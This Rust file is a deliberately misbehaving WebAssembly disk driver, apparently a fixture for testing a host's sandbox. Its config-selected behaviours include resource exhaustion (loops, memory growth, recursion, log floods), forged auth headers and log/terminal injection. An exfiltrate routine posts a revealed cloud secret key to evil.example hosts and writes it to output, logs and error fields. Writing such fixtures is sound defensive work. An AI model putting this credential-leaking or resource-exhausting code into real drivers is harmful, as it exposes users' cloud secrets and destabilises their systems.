//! A driver that does what `config.behaviour` says, most of it forbidden.

wit_bindgen::generate!({
    path: "../../../../../wit/kompox-driver",
    world: "kompox:driver/full-driver",
    generate_all,
});

mod http;

use exports::kompox::driver::{disk, disk_modify, identity, snapshot};
use kompox::driver::{
    call, credentials, log, session,
    types::{
        Effect, Error, ErrorCode, Finding, Intent, Outcome, Pending, Query, Severity, TagChange, Target,
    },
};

struct Behaviours;

const DESCRIPTOR: &str = r#"{
  "name": "behaviours", "version": "1.0.0", "requires": [],
  "providers": [
    { "type": "signed",
      "endpoints": [{ "url": "{config.endpoint}", "auth": "aws" }, { "url": "https://ec2.{config.region}.amazonaws.com/", "auth": "aws" }],
      "authProfiles": [{ "name": "aws", "kind": "aws-sigv4", "params": { "service": "ec2", "region": "{config.region}" } }],
      "credentials": [{ "key": "accessKeyId", "required": true }, { "key": "secretAccessKey", "required": true }] },
    { "type": "token",
      "endpoints": [{ "url": "{config.endpoint}", "auth": "oauth" }],
      "authProfiles": [{ "name": "oauth", "kind": "oauth2-client", "params": { "tokenUrl": "{config.endpoint}/token" } }],
      "credentials": [{ "key": "clientId", "required": true }, { "key": "clientSecret", "required": true }] },
    { "type": "paced", "endpoints": [{ "url": "{config.endpoint}", "ratePerMinute": 1, "burst": 2, "concurrent": 4 }] },
    { "type": "open", "endpoints": [{ "url": "{config.endpoint}" }, { "url": "http://localhost:9/" }, { "url": "https://localhost:9/" },
      { "url": "https://name.invalid/" }] }
  ]
}"#;

/// The value of a flat JSON object whose strings need no unescaping.
fn config(key: &str) -> String {
    let json = call::context().config;
    let start = json.find(&format!("\"{key}\":\"")).map(|at| at + key.len() + 4);
    start.and_then(|start| json[start..].split('"').next()).unwrap_or_default().to_owned()
}

fn failed(reason: &str, message: String) -> Error {
    Error {
        code: ErrorCode::Unavailable,
        effect: Effect::Spent,
        retry_after_ms: Some(1500),
        reason: reason.to_owned(),
        message,
        details: Vec::new(),
    }
}

/// The text is the answer.
fn behave() -> Result<String, Error> {
    match config("behaviour").as_str() {
        "loop" => loop {
            std::hint::black_box(0);
        },
        "log-flood" => loop {
            log::log(log::Level::Info, "flood", &[]);
        },
        "sleep" => {
            wasi::clocks::monotonic_clock::subscribe_duration(3_600_000_000_000).block();
            Ok(String::new())
        }
        "grow" => {
            let mut hog: Vec<Vec<u8>> = Vec::new();
            loop {
                hog.push(std::hint::black_box(vec![1; 1 << 20]));
            }
        }
        "grow-to-100-mib" => {
            let hog: Vec<Vec<u8>> = (0..100).map(|_| std::hint::black_box(vec![1; 1 << 20])).collect();
            Ok(format!("{} MiB", hog.len()))
        }
        "recurse" => Ok(recurse(0).to_string()),
        "panic" => panic!("the disk service said {}", config("says")),
        "post" => post(),
        "many" => (0..10).try_fold(String::new(), |_, _| post()),
        "post-and-log" => {
            let text = post()?;
            println!("{text}");
            log::log(log::Level::Warn, &text, &[("body".to_owned(), text.clone())]);
            Err(failed("Echoed", text))
        }
        "big-request" => http::post(&config("url"), &[], &vec![b'x'; 2 << 20])
            .map(|_| String::new())
            .map_err(|e| failed("Http", e)),
        "headers" => Ok(http::headers(config("count").parse().unwrap_or(0), config("length").parse().unwrap_or(0))),
        "forge-headers" => Ok(["host", "connection", "transfer-encoding", "upgrade", "proxy-authorization", ":authority"]
            .map(|name| format!("{name}={}", http::may_set(name)))
            .join(" ")),
        "abandon" => {
            for _ in 0..10 {
                http::abandon(&config("url")).map_err(|error| failed("Http", error))?;
            }
            Ok("abandoned".to_owned())
        }
        "throttled" => {
            post()?;
            let wait = config("wait").parse().ok();
            Err(Error { code: ErrorCode::Throttled, retry_after_ms: wait, ..failed("SlowDown", "slow down".to_owned()) })
        }
        "exfiltrate" => Err(exfiltrate()),
        "inject-long" => Err(Error {
            details: vec![("k\n".to_owned(), "v".to_owned())],
            ..failed(&"Reason\n".repeat(10_000), "\u{202e}message\x1b[2J ".repeat(100_000))
        }),
        "long-handle" => Ok("x".repeat(2000)),
        "huge-answer" => Ok("x".repeat(40 << 20)),
        "inject" => {
            log::log(log::Level::Info, "first\nsecond \x1b[31m{\"level\":\"ERROR\"}", &[]);
            Err(failed("Injected", "first\r\nsecond".to_owned()))
        }
        "session" => {
            let seen = session::get("count").unwrap_or_default();
            session::put("count", &format!("{seen}+"), 60_000);
            Ok(format!("seen:{seen}"))
        }
        "reveal" => Ok(format!(
            "{:?} {:?}",
            credentials::reveal("secretAccessKey"),
            credentials::sign("secretAccessKey", "hmac-sha256", &[], b"x")
        )),
        "environment" => Ok(format!(
            "{} {} {:?}",
            std::env::vars().count(),
            std::env::args().count(),
            std::fs::read("/etc/hostname").map_err(|error| error.kind())
        )),
        "context" => {
            let context = call::context();
            let left = call::remaining_ms();
            Ok(format!(
                "{} {} {} {}",
                context.provider_type,
                context.config,
                context.cluster.uid,
                left <= 60_000
            ))
        }
        _ => Ok("quiet".to_owned()),
    }
}

/// Puts a secret everywhere a driver can put anything.
fn exfiltrate() -> Error {
    let secret = credentials::reveal("secretAccessKey").unwrap_or_default();
    let (base64, escaped) = (config("base64"), config("escaped"));
    let mut answers = Vec::new();
    for url in [
        format!("https://{}.evil.example/", &secret[..8]),
        format!("https://evil.example/{escaped}?k={escaped}"),
        format!("{}/{escaped}", config("elsewhere")),
    ] {
        let answer = http::post(&url, &[("x-leak", &secret)], secret.as_bytes());
        answers.push(answer.map_or_else(|error| error, |(status, _)| status.to_string()));
    }
    println!("stdout {secret} {escaped} {base64}");
    eprintln!("stderr {secret} {escaped} {base64}");
    log::log(log::Level::Error, &secret, &[(secret.clone(), base64.clone()), ("escaped".to_owned(), escaped.clone())]);
    Error {
        details: vec![("leak".to_owned(), format!("{secret} {base64} {escaped}"))],
        ..failed(&format!("R{secret}"), format!("{secret} {base64} {escaped} {}", answers.join(",")))
    }
}

fn recurse(depth: u64) -> u64 {
    if std::hint::black_box(depth) == u64::MAX { 0 } else { recurse(depth + 1) + std::hint::black_box(1) }
}

fn post() -> Result<String, Error> {
    let headers = [
        ("authorization", "forged"),
        ("x-amz-date", "20000101T000000Z"),
        ("x-amz-security-token", "forged"),
        ("date", "forged"),
        ("x-kept", "yes"),
        ("content-type", "application/x-www-form-urlencoded; charset=utf-8"),
    ];
    match http::post(&config("url"), &headers, config("body").as_bytes()) {
        Ok((status, body)) => Ok(format!("{status} {}", String::from_utf8_lossy(&body))),
        Err(error) => Err(failed("Http", error)),
    }
}

fn answer() -> Result<Outcome, Error> {
    behave().map(|text| Outcome { handle: Some(text), pending: None })
}

impl identity::Guest for Behaviours {
    fn describe() -> String {
        DESCRIPTOR.to_owned()
    }

    fn detect(facts: identity::Facts) -> Vec<identity::Detection> {
        facts
            .csi_drivers
            .iter()
            .map(|driver| identity::Detection {
                provider_type: "open".to_owned(),
                score: 50,
                config: r#"{"region":"r1","replicas":3}"#.to_owned(),
                reason: driver.clone(),
            })
            .collect()
    }

    fn validate_config(online: bool) -> Result<Vec<Finding>, Error> {
        behave().map(|message| {
            vec![Finding {
                severity: Severity::Info,
                reason: format!("Online{online}"),
                message,
                path: "config.region".to_owned(),
            }]
        })
    }

    fn get_account() -> Result<identity::Account, Error> {
        behave().map(|text| identity::Account { id: Some(text), name: None, attributes: Vec::new() })
    }
}

impl disk::Guest for Behaviours {
    fn plan(request: disk::DiskRequest) -> Result<disk::DiskPlan, Error> {
        behave().map(|text| disk::DiskPlan {
            size_bytes: request.size_bytes.next_multiple_of(1 << 30),
            zone: request.zone,
            options: request.options,
            topology: Vec::new(),
            findings: Vec::new(),
            attributes: vec![("text".to_owned(), text)],
        })
    }

    fn create(intent: Intent, _request: disk::DiskRequest, resume: Option<String>) -> Result<Outcome, Error> {
        if config("behaviour") == "pending" && resume.is_none() {
            let message = format!("making {}", intent.name);
            let pending = Pending { resume: intent.token, message, percent: Some(10), poll_after_ms: 250 };
            return Ok(Outcome { handle: None, pending: Some(pending) });
        }
        answer()
    }

    fn find(query: Query, page: Option<String>) -> Result<disk::DiskPage, Error> {
        let mut query = query;
        if config("behaviour") == "leak-in-tags" {
            query.tags.push(("leak".to_owned(), credentials::reveal("secretAccessKey").unwrap_or_default()));
        }
        behave().map(|text| disk::DiskPage {
            items: query
                .handles
                .iter()
                .map(|handle| disk::DiskInfo {
                    handle: handle.clone(),
                    name: query.name.clone(),
                    state: disk::DiskState::Ready,
                    size_bytes: 1 << 30,
                    zone: Some("a".to_owned()),
                    source: Some(disk::Source::Snapshot("snap-1".to_owned())),
                    attachments: disk::Attachments::Attached(vec!["x://n1".to_owned()]),
                    tags: query.tags.clone(),
                    created_at: None,
                    features: Vec::new(),
                    message: Some(text.clone()),
                    attributes: Vec::new(),
                })
                .collect(),
            next: page,
            unread: vec!["zone b".to_owned()],
        })
    }

    fn set_tags(_target: Target, _change: TagChange) -> Result<(), Error> {
        behave().map(drop)
    }

    fn delete(_target: Target, _resume: Option<String>) -> Result<Outcome, Error> {
        answer()
    }

    fn volume_for(request: disk::VolumeRequest) -> Result<disk::Volume, Error> {
        let _ = behave()?;
        let source = match config("behaviour").as_str() {
            "name-volume" => disk::VolumeSource::Csi(disk::CsiSource {
                driver: "open.csi.example".to_owned(),
                volume_handle: config("says"),
                attributes: Vec::new(),
                secrets: Vec::new(),
            }),
            _ => disk::VolumeSource::Other(disk::OtherSource {
                kind: "hostPath".to_owned(),
                json: format!("{{\"path\":\"/{}\"}}", request.handle),
            }),
        };
        Ok(disk::Volume {
            source,
            topology: Vec::new(),
            mount_options: Vec::new(),
            access_modes: Vec::new(),
            attributes: Vec::new(),
        })
    }
}

impl disk_modify::Guest for Behaviours {
    fn modify(
        _target: Target,
        _change: disk_modify::DiskChange,
        _resume: Option<String>,
    ) -> Result<Outcome, Error> {
        answer()
    }
}

impl snapshot::Guest for Behaviours {
    fn create(
        _intent: Intent,
        _request: snapshot::SnapshotRequest,
        _resume: Option<String>,
    ) -> Result<Outcome, Error> {
        answer()
    }

    fn find(query: Query, page: Option<String>) -> Result<snapshot::SnapshotPage, Error> {
        behave().map(|text| snapshot::SnapshotPage {
            items: query
                .handles
                .iter()
                .map(|handle| snapshot::SnapshotInfo {
                    handle: handle.clone(),
                    name: None,
                    state: snapshot::SnapshotState::Uploading,
                    disk_handle: query.disk_handle.clone(),
                    restore_size_bytes: 5,
                    location: None,
                    zones: Vec::new(),
                    taken_at: None,
                    expires_at: None,
                    csi: Some(snapshot::CsiSnapshot { driver: "d".to_owned(), handle: handle.clone() }),
                    tags: Vec::new(),
                    message: Some(text.clone()),
                    attributes: Vec::new(),
                })
                .collect(),
            next: page,
            unread: Vec::new(),
        })
    }

    fn set_tags(_target: Target, _change: TagChange) -> Result<(), Error> {
        behave().map(drop)
    }

    fn delete(_target: Target, _resume: Option<String>) -> Result<Outcome, Error> {
        answer()
    }
}

export!(Behaviours);
